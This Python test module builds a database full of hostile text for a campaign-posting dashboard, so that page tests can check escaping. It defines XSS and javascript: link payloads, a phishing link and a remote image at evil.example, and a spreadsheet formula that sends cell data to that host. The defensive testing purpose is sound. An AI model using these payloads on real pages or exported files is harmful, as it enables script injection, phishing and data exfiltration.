"""Hostile text and a busy database, shared by the page tests (AppTest) and the browser scans.

``build_busy_database(url)`` fills a fresh database with what a campaign week leaves behind and
what every page must survive (shared/reference/staff-journeys.md, "Data every page must survive"):
accounts of all four kinds (Mastodon on its instance, Bluesky on its PDS, one unhealthy with its
last error), deliveries in every state with figures and errors, a post awaiting approval on every
kind, a rejected post, a draft, a post whose image is not an image, a paused case and a case with
good news, a finished edition beside the current one, and the hostile texts below in the names,
texts, alt texts, credits, notes and audit details staff and platforms control.

Build it once per test session and copy it per test (``copy_database``): building takes seconds,
copying a SQLite file milliseconds.
"""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import io
import re
import shutil
import sqlite3
from pathlib import Path

import sqlalchemy as sa

#: Markup that must never come out live: an HTML tag with a script, a script link, a tracking
#: pixel. Each must reach the page only in its escaped form.
IMG_TAG = "<img src=x onerror=alert(1)>"
SCRIPT_LINK = "[x](javascript:alert(1))"
PIXEL = "![](https://example.org/pixel.png)"
#: What a hostile platform (a Mastodon instance anyone can run) may answer, in an error or an
#: account name: a phishing link and a remote image, dressed in the campaign's language.
PHISHING_LINK = "[Reconnectez-vous ici](https://evil.example/login)"
REMOTE_IMAGE = "![](https://evil.example/p.png)"
HOSTILE_REPLY = f"{PHISHING_LINK} {REMOTE_IMAGE}"
MARKUP = (IMG_TAG, SCRIPT_LINK, PIXEL, PHISHING_LINK, REMOTE_IMAGE)
#: A spreadsheet formula at the start of a text: harmless on a page, run by a spreadsheet that
#: opens a CSV holding it as typed.
FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Détails")'
#: Text that breaks layouts and naive code rather than security.
LONG_WORD = "Anticonstitutionnellement" * 12  # 300 letters, no break opportunity
EMOJI = "✊🏽🕊️🇨🇦"
ARABIC = "حرية التعبير ليست جريمة"
HEBREW = "חופש הביטוי"
QUOTE_AMP = "L'Écho & \"Fils\""
#: One line with all of it, for short fields.
HOSTILE = f"{QUOTE_AMP} {IMG_TAG} {SCRIPT_LINK} {PIXEL} {EMOJI} {ARABIC}"
#: A longer text with the long word as well, for post texts, stories and notes.
HOSTILE_LONG = f"{HOSTILE} {HEBREW} {LONG_WORD}"

PASSWORD = "motdepasse-solide"
#: One person per role, as tests/dashboard/conftest.py has them.
PEOPLE = {"victor": "viewer", "edith": "editor", "alain": "approver", "ada": "admin"}

#: Bytes that claim to be a PNG and are not: a photo saved from the wrong place.
NOT_AN_IMAGE = b"this is text, not a picture\n"


#: The address inside PIXEL: alone, GitHub-style Markdown would still make it a link.
PIXEL_URL = "https://example.org/pixel.png"
#: Every address above: each alone would still be a link.
ADDRESSES = (PIXEL_URL, "https://evil.example/login", "https://evil.example/p.png")
_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")


def live_markup(body: str) -> list[str]:
    """The hostile fragments that appear in ``body`` as they were typed, i.e. that Markdown would
    draw as a tag, a link or an image. ``common.plain()`` breaks each of them with backslashes;
    a bare address is found by Streamlit's renderer after escapes are resolved, so it is looked
    for there (``plain()`` breaks it with an invisible word joiner)."""
    found = [fragment for fragment in MARKUP if fragment in body]
    unescaped = _ESCAPE.sub(r"\1", body)
    return found + [address for address in ADDRESSES if address in unescaped]


@dataclasses.dataclass(frozen=True)
class Busy:
    """What the builder made, for tests that need to find it again."""

    current_id: int
    finished_id: int
    current_slug: str
    paused_case: str
    good_news_case: str
    hostile_case: str
    accounts: dict[str, str]  # kind (and "unhealthy") -> account name
    pending_posts: dict[str, int]  # kind -> a post awaiting approval scheduled on that kind
    broken_image_post: int
    rejected_post: int
    draft_post: int
    counter_token: str


def png_bytes(size: tuple[int, int] = (40, 30), colour: str = "orange") -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG")
    return out.getvalue()


def _today(campaign_tz: str = "America/Toronto") -> dt.date:
    from zoneinfo import ZoneInfo

    return dt.datetime.now(ZoneInfo(campaign_tz)).date()


def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
    """Migrate the empty database at ``url`` and fill it (see the module's docstring)."""
    from sqlmodel import Session, select

    from content.loader import bundled_campaign, load_campaign
    from orchestrator import db, states
    from orchestrator.models import (
        Account,
        AuditEntry,
        CallToAction,
        Case,
        Delivery,
        LinkClickHour,
        MediaBlob,
        MediaItem,
        MetricSnapshot,
        Post,
        RateBucket,
        Response,
        ResponseImport,
        Template,
        WorkerHeartbeat,
    )
    from orchestrator.services import campaign_admin, case_edit, counter, posts, users
    from orchestrator.services.auth import SYSTEM, Actor, audit
    from orchestrator.services.campaigns import load_content
    from tests.factories import new_account

    now = now or dt.datetime.now(dt.UTC)
    engine = db.make_engine(url)
    db.upgrade(engine)
    today = _today()
    with Session(engine, expire_on_commit=False) as s:
        # -- editions: the bundled 2025 one, moved into the past if need be, and a current copy
        finished = load_content(s, actor=SYSTEM, content=load_campaign(bundled_campaign("2025")))
        years_back = 0
        while finished.ends_on is not None and _shift_years(finished.ends_on, -years_back) >= today:
            years_back += 1
        if years_back:
            _move_campaign(finished, -years_back)
        current = campaign_admin.copy_campaign(
            s, actor=SYSTEM, source_id=finished.id or 0, slug="ecrire-en-cours",
            name={"fr": f"Écrire, ça libère ! {QUOTE_AMP} {IMG_TAG} {EMOJI}", "en": f"Write for Rights {SCRIPT_LINK} {ARABIC}"},
            starts_on=today - dt.timedelta(days=30), ends_on=today + dt.timedelta(days=60), include_cases=True)
        campaign_admin.set_current(s, actor=SYSTEM, campaign_id=current.id or 0)
        # A key date staff named with markup: the Overview's countdowns show it as a metric label.
        current.key_dates = [{"slug": "marathon-hostile", "date": (today + dt.timedelta(days=1)).isoformat(),
                              "name": {"fr": f"Marathon {IMG_TAG} {PIXEL}", "en": f"Marathon {SCRIPT_LINK}"}},
                             *current.key_dates]
        finished.name = {"fr": f"Bilan {SCRIPT_LINK} {QUOTE_AMP}", "en": f"Results {PIXEL}"}
        s.add(current)
        s.add(finished)
        s.flush()

        for name, role in PEOPLE.items():
            users.add_user(s, actor=SYSTEM, username=name, password=PASSWORD, role=role)

        # -- cases: hostile names and stories, one paused, one with good news
        cases = list(s.exec(select(Case).where(Case.campaign_id == current.id).order_by(Case.position)))
        hostile_case, paused_case, good_case = cases[0], cases[1], cases[2]
        hostile_case.person = {"fr": f"{QUOTE_AMP} {IMG_TAG}", "en": f"{SCRIPT_LINK} {EMOJI}"}
        hostile_case.country = {"fr": f"{ARABIC} {PIXEL}", "en": f"{HEBREW} {IMG_TAG}"}
        hostile_case.story = {"fr": HOSTILE_LONG, "en": HOSTILE_LONG}
        hostile_case.ask = {"fr": f"{SCRIPT_LINK} {LONG_WORD}", "en": PIXEL}
        hostile_case.authority = {"fr": HOSTILE, "en": HOSTILE}
        hostile_case.solidarity_to = {"fr": QUOTE_AMP, "en": QUOTE_AMP}
        hostile_case.image_alt = {"fr": HOSTILE, "en": HOSTILE}
        s.add(hostile_case)
        s.flush()
        case_edit.set_status(s, actor=SYSTEM, case_id=paused_case.id or 0, status="paused", note=HOSTILE_LONG)
        case_edit.set_status(s, actor=SYSTEM, case_id=good_case.id or 0, status="good_news", note=f"{EMOJI} {IMG_TAG}")

        # -- calls to action and templates with hostile words
        action = s.exec(select(CallToAction).where(CallToAction.campaign_id == current.id)).first()
        assert action is not None
        action.label = {"fr": f"Signez {IMG_TAG}", "en": f"Sign {SCRIPT_LINK}"}
        s.add(action)
        s.add(Template(campaign_id=current.id or 0, slug="hostile-fr", action_slug=action.slug, language="fr",
                       body=f"{{person}} {HOSTILE} {{link}}"))

        # -- accounts: every kind on its server, one unhealthy, hostile handles and errors
        made = {
            "x": new_account(s, "x"),
            "facebook": new_account(s, "facebook"),
            "mastodon": new_account(s, "mastodon", base_url="https://mastodon.example.org"),
            "bluesky": new_account(s, "bluesky", name="bluesky-en", language="en", base_url="https://pds.example.org"),
            "instagram": new_account(s, "instagram"),
            "threads": new_account(s, "threads"),
            "unhealthy": new_account(s, "x", name=f"x \"l'écho\" & {IMG_TAG}", language=None),
        }
        made["x"].handle = f"@ecrire {IMG_TAG}"
        made["mastodon"].handle = f"{SCRIPT_LINK}@mastodon.example.org"
        made["unhealthy"].healthy = False
        made["unhealthy"].last_error = f"401 Unauthorized: {HOSTILE} {HOSTILE_REPLY}"
        made["unhealthy"].last_checked_at = now - dt.timedelta(hours=2)
        for account in made.values():
            s.add(account)
        s.add(RateBucket(account_id=made["x"].id or 0, endpoint="post", capacity=1000, window_seconds=86400,
                         tokens=12.0, updated_at=now, blocked_until=now + dt.timedelta(minutes=20)))
        s.flush()

        def post(text: str, case: Case | None, *, status: str, language: str = "fr", images: list | None = None,
                 author: str = "edith", comment: str = "") -> Post:
            row = Post(campaign_id=current.id or 0, case_id=case.id if case else None, language=language, text=text,
                       link="https://amnistie.ca/ecrire", images=images or [], status=status, author=author,
                       review_comment=comment, approved_by="alain" if status == "approved" else None,
                       approved_at=now - dt.timedelta(days=1) if status == "approved" else None)
            s.add(row)
            s.flush()
            return row

        codes = iter(range(10_000))

        def delivery(p: Post, account: Account, state: str, *, at: dt.datetime, **fields: object) -> Delivery:
            row = Delivery(post_id=p.id or 0, account_id=account.id or 0, state=state, scheduled_at=at, due_at=at,
                           source_code=f"h{next(codes):06d}", **fields)  # type: ignore[arg-type]
            if p.status == "approved":
                row.rendered_text, row.rendered_link = p.text, p.link
            s.add(row)
            s.flush()
            return row

        # -- approved posts with deliveries in every state, figures and errors
        published_text = f"Écrivez pour {QUOTE_AMP} {IMG_TAG} {EMOJI}"
        for index, (kind, account) in enumerate(made.items()):
            case = cases[3 + index % 3]
            approved = post(f"{published_text} n° {index} {SCRIPT_LINK}", case, status="approved",
                            language=account.language or "fr")
            for offset, state in enumerate(states.LABELS):
                fields: dict[str, object] = {}
                at = now + dt.timedelta(hours=offset + 1)
                if state in (states.PUBLISHED, states.UNCONFIRMED):
                    at = now - dt.timedelta(hours=offset + 2)
                if state == states.PUBLISHED:
                    fields = {"published_at": at, "platform_id": f"{kind}-{index}",
                              "platform_url": f"https://example.org/{kind}/{index}?q={IMG_TAG}",
                              "likes": 1234, "shares": 56, "replies": 7, "views": 12027, "quotes": 0,
                              "metrics_at": now}
                elif state in (states.RETRYING, states.FAILED):
                    fields = {"attempts": 3, "last_error": f"503: {HOSTILE}", "last_error_kind": "transient"}
                elif state == states.HELD:
                    fields = {"held_reason": "case paused" if kind != "unhealthy" else f"account unhealthy: {HOSTILE}"}
                elif state == states.PUBLISHING:
                    fields = {"worker_id": "worker-1", "lease_until": now + dt.timedelta(minutes=2), "attempts": 1}
                elif state == states.UNCONFIRMED:
                    fields = {"attempts": 1, "last_error": f"timeout after write {IMG_TAG}", "last_error_kind": "ambiguous"}
                made_delivery = delivery(approved, account, state, at=at, **fields)
                if state == states.PUBLISHED:
                    for hours in (3, 2, 1):
                        s.add(MetricSnapshot(delivery_id=made_delivery.id or 0, taken_at=now - dt.timedelta(hours=hours),
                                             likes=1234 // hours, shares=56 // hours, replies=7, views=12027 // hours))
                    s.add(LinkClickHour(source_code=made_delivery.source_code,
                                        hour=now.replace(minute=0, second=0, microsecond=0), count=1000))
                    s.add(Response(case_id=case.id or 0, kind="letter", count=1235, day=today, source_type="delivery",
                                   source=made_delivery.source_code, entered_by="system", created_at=now))

        # -- a post awaiting approval on every kind, a rejected one, a draft, a broken image
        pending: dict[str, int] = {}
        # A picture that draws, described with markup: its alt text is the caption under it.
        pictured = [{"data": base64.b64encode(png_bytes()).decode(), "mime_type": "image/png",
                     "filename": f"{IMG_TAG}.png", "alt": f"Alt {HOSTILE}", "source": "upload"}]
        for kind in ("x", "facebook", "mastodon", "bluesky", "instagram", "threads"):
            account = made[kind]
            # a picture on X and on Instagram (a PNG, which Instagram refuses: a broken item there)
            waiting = post(f"En attente {kind} : {HOSTILE_LONG}", hostile_case, status="pending",
                           language=account.language or "fr",
                           images=pictured if kind in ("x", "instagram") else None)
            delivery(waiting, account, states.SCHEDULED, at=now + dt.timedelta(days=1))
            pending[kind] = waiting.id or 0
        broken = post(f"Image cassée {EMOJI}", cases[4], status="pending", images=[{
            "data": base64.b64encode(NOT_AN_IMAGE).decode(), "mime_type": "image/png", "filename": "photo.png",
            "alt": f"Photo {HOSTILE}", "source": "photo.png"}])
        for kind in ("x", "mastodon"):
            delivery(broken, made[kind], states.SCHEDULED, at=now + dt.timedelta(days=2))
        rejected = post(f"{FORMULA} Refusée {IMG_TAG}", hostile_case, status="rejected", comment=f"Non : {HOSTILE}")
        delivery(rejected, made["x"], states.SCHEDULED, at=now + dt.timedelta(days=3))
        draft = post(f"Brouillon {SCRIPT_LINK} {LONG_WORD}", hostile_case, status="draft", author="edith",
                     images=[{**pictured[0], "filename": f"{SCRIPT_LINK} {PIXEL}.png"}])
        # Its author adjusts it for the account with the hostile name: the name is in a field's label.
        draft.accounts = [made["unhealthy"].id]
        draft.variants = {str(made["unhealthy"].id): f"Variante {IMG_TAG}"}
        s.add(draft)
        assert posts  # the service module is imported for the statuses' names in other tests

        # -- the media library: a good image with hostile words, and stored bytes that are not an image
        good = png_bytes()
        item = MediaItem(campaign_id=current.id or 0, case_id=hostile_case.id, filename=f"{QUOTE_AMP}.png",
                         mime_type="image/png", size=len(good), width=40, height=30, sha256="a" * 64,
                         alt={"fr": f"Alt {HOSTILE}", "en": f"Alt {HOSTILE_LONG}"}, credit=f"© {HOSTILE}",
                         uploaded_by="edith")
        bad = MediaItem(campaign_id=current.id or 0, case_id=None, filename="pas-une-image.png", mime_type="image/png",
                        size=len(NOT_AN_IMAGE), width=40, height=30, sha256="b" * 64,
                        alt={"fr": f"Cassée {IMG_TAG}", "en": f"Broken {PIXEL}"}, credit=PIXEL, uploaded_by="edith")
        s.add(item)
        s.add(bad)
        s.flush()
        s.add(MediaBlob(media_id=item.id or 0, data=good))
        s.add(MediaBlob(media_id=bad.id or 0, data=NOT_AN_IMAGE))

        # -- responses: tallies, an event, channel-level sources, an import
        edith = Actor("edith", "editor")
        from orchestrator.services import responses

        for kind, count in (("letter", 1000), ("solidarity", 312), ("signature", 12027)):
            responses.record_tally(s, actor=edith, case_slug=hostile_case.slug, kind=kind, count=count, day=today,
                                   campaign=current)
        events = [str(k["slug"]) for k in current.key_dates]
        if events:
            responses.record_tally(s, actor=edith, case_slug=cases[3].slug, kind="postcard", count=45, day=today,
                                   event=events[0], campaign=current)
        for channel, count in (("x", 77), ("facebook", 1500), ("newsletter", 88)):
            s.add(Response(case_id=cases[3].id or 0, kind="signature", count=count, day=today, source_type="channel",
                           source=channel, entered_by="system", created_at=now))
        imported = ResponseImport(campaign_id=current.id or 0, sha256="c" * 64, filename=f"{IMG_TAG}.csv",
                                  lines=3, total=30, imported_by="edith", created_at=now)
        s.add(imported)
        s.flush()
        s.add(Response(case_id=cases[5].id or 0, kind="email", count=30, day=today, source_type="import",
                       source=f"{SCRIPT_LINK}"[:64], import_id=imported.id, entered_by="edith", created_at=now))

        # -- a finished edition has its own posts and results
        old_case = s.exec(select(Case).where(Case.campaign_id == finished.id)).first()
        assert old_case is not None
        old_post = Post(campaign_id=finished.id or 0, case_id=old_case.id, language="fr", text=f"Bilan {EMOJI}",
                        status="approved", author="edith", approved_by="alain")
        s.add(old_post)
        s.flush()
        old_day = dt.datetime.combine(finished.ends_on or today, dt.time(17), tzinfo=dt.UTC) - dt.timedelta(days=10)
        delivery(old_post, made["x"], states.PUBLISHED, at=old_day, published_at=old_day, likes=10, views=100,
                 platform_url="https://x.com/i/status/1")
        s.add(Response(case_id=old_case.id or 0, kind="letter", count=4321, day=old_day.date(), source_type="tally",
                       entered_by="edith", created_at=old_day))

        # -- the audit log: hostile details, an action no label knows, a series applied
        audit(s, actor=Actor("ada", "admin"), action="account_update", target_type="account", target_id=made["x"].name,
              fields=["bearer_token"], note=HOSTILE)
        audit(s, actor=Actor("edith", "editor"), action="something_new", target_type=f"chose {IMG_TAG}",
              target_id=SCRIPT_LINK, detail={"nested": HOSTILE_LONG}, count=1000)
        audit(s, actor=Actor("edith", "editor"), action="series_apply", target_type="series",
              target_id=f"plan {IMG_TAG} {EMOJI}", posts=3, deliveries=12, skipped=1)
        s.add(AuditEntry(at=now, actor="system", action="reschedule", target_type="delivery", target_id="1",
                         detail={"at": now.isoformat(), "source": "plan"}))
        s.add(WorkerHeartbeat(id="worker-1", host="localhost", pid=1, version="test", started_at=now,
                              last_seen=now - dt.timedelta(seconds=5)))
        token = counter.publish(s, actor=SYSTEM, campaign_id=current.id or 0, day_goal=500)
        s.commit()
        busy = Busy(
            current_id=current.id or 0, finished_id=finished.id or 0, current_slug=current.slug,
            paused_case=paused_case.slug, good_news_case=good_case.slug, hostile_case=hostile_case.slug,
            accounts={k: a.name for k, a in made.items()}, pending_posts=pending, broken_image_post=broken.id or 0,
            rejected_post=rejected.id or 0, draft_post=draft.id or 0, counter_token=token,
        )
    sqlite = engine.dialect.name == "sqlite"
    engine.dispose()
    if sqlite:  # fold the write-ahead log into the file, so that copying the file copies it all
        conn = sqlite3.connect(sa.engine.make_url(url).database or "", isolation_level=None)
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        conn.close()
    return busy


def copy_database(source: Path, target: Path) -> str:
    """A private copy of a built SQLite database; returns its URL."""
    shutil.copyfile(source, target)
    return f"sqlite:///{target}"


def _shift_years(day: dt.date, years: int) -> dt.date:
    try:
        return day.replace(year=day.year + years)
    except ValueError:  # 29 February
        return day.replace(year=day.year + years, day=28)


def _move_campaign(campaign: object, years: int) -> None:
    """Move an edition and its key dates by whole years (so a bundled edition is over whatever
    the machine's date)."""
    c = campaign
    c.starts_on = _shift_years(c.starts_on, years) if c.starts_on else None  # type: ignore[attr-defined]
    c.ends_on = _shift_years(c.ends_on, years) if c.ends_on else None  # type: ignore[attr-defined]
    c.key_dates = [{**k, "date": _shift_years(dt.date.fromisoformat(str(k["date"])), years).isoformat()}  # type: ignore[attr-defined]
                   for k in c.key_dates]  # type: ignore[attr-defined]


if __name__ == "__main__":  # python -m tests.hostile PATH: a busy database to walk in a browser
    import os
    import sys

    from cryptography.fernet import Fernet

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "var/busy.db").resolve()
    target.parent.mkdir(parents=True, exist_ok=True)
    target.unlink(missing_ok=True)
    os.environ.setdefault("PORTEVOIX_SECRET_KEY", Fernet.generate_key().decode())
    made = build_busy_database(f"sqlite:///{target}")
    print(f"PORTEVOIX_DATABASE_URL=sqlite:///{target}")
    print(f"PORTEVOIX_SECRET_KEY={os.environ['PORTEVOIX_SECRET_KEY']}")
    print(f"# people: {', '.join(PEOPLE)} (password {PASSWORD}); counter: ?counter={made.counter_token}")
